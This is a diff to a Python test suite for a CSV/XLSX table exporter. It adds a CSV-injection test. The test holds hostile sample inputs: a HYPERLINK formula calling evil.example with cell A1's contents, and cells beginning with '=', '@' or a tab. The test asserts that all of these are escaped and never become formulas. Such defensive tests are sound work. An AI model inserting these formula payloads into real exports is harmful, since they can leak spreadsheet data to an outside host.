@@ -6,6 +6,7 @@ from __future__ import annotations
 import csv
 import datetime as dt
 import io
+import zipfile
 from collections.abc import AsyncIterator
 from decimal import Decimal
 
@@ -82,11 +83,11 @@ def test_csv_is_utf8_with_bom_semicolons_and_exact_decimal_commas() -> None:
     assert content.startswith(b"\xef\xbb\xbf# format: CSV, UTF-8, separator ';', decimal comma;")
     text = content.decode("utf-8-sig")
     lines = text.split("\r\n")
-    meta = [line for line in lines if line.startswith("#")]
+    meta = [line for line in lines if line.startswith(("#", '"#'))]
     assert meta[0].endswith("the first 9 lines are metadata beginning with '#', line 10 is the header")
     assert meta[1:] == [
         "# title: Démo",
-        "# source: Une source; avec point-virgule",
+        '"# source: Une source; avec point-virgule"',  # one quoted field: the `;` splits nothing
         "# version: 2024-07-24",
         "# licence: Licence Ouverte 2.0",
         "# generated_at: 2026-03-01T12:30:00Z",
@@ -332,3 +333,38 @@ def test_the_contract_declares_the_export_as_files_and_the_read_as_json(app: Fas
     read = paths["/api/v1/tables/public"]["get"]
     assert set(read["responses"]["200"]["content"]) == {"application/json"}
     assert "parameters" not in read
+
+
+def test_no_metadata_value_or_cell_becomes_a_formula_or_splits_a_line() -> None:
+    """CSV injection (OWASP): `;` in a metadata value does not start a new cell, and no cell, header or
+    data, starts with a formula trigger; the XLSX keeps every such text a string, never a formula."""
+    hostile = 'ok;=HYPERLINK("http://evil.example/?"&A1;"clic")'
+    metadata = Metadata(
+        title="=1+1",
+        source=hostile,
+        version="@SUM(1)",
+        licence="+33;-1",
+        generated_at=dt.datetime(2026, 3, 1, tzinfo=dt.UTC),
+        extra=[("basis", "\t=cmd")],
+        notes=["-2;@x"],
+    )
+    table = Table(metadata, [Column("=code"), Column("label")], [["-1", "@x"], ["\r=2", "ok"]])
+    lines = to_csv(table).decode("utf-8-sig").split("\r\n")
+    cells = [next(csv.reader([line], delimiter=";")) for line in lines if line]
+    for line_cells in cells[1:8]:  # the metadata lines: one cell each, starting with "#"
+        assert len(line_cells) == 1 and line_cells[0].startswith("#"), line_cells
+    assert cells[2] == ['# source: ok;=HYPERLINK("http://evil.example/?"&A1;"clic")']
+    for row in cells[8:]:
+        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row), row
+    assert cells[8:] == [["'=code", "label"], ["'-1", "'@x"], ["'\r=2", "ok"]]
+    exported = read_csv_export(to_csv(table))
+    assert exported.metadata["source"] == [hostile]
+    assert exported.metadata["licence"] == ["+33;-1"]
+
+    content = to_xlsx(table)
+    with zipfile.ZipFile(io.BytesIO(content)) as archive:
+        sheets = [archive.read(name) for name in archive.namelist() if name.startswith("xl/worksheets/")]
+    assert sheets and not any(b"<f>" in sheet or b"<f " in sheet for sheet in sheets)  # no formula anywhere
+    workbook = load_workbook(io.BytesIO(content))
+    assert [c.data_type for c in workbook["data"][1]] == ["s", "s"]
+    assert read_xlsx_export(content).metadata["source"] == [hostile]
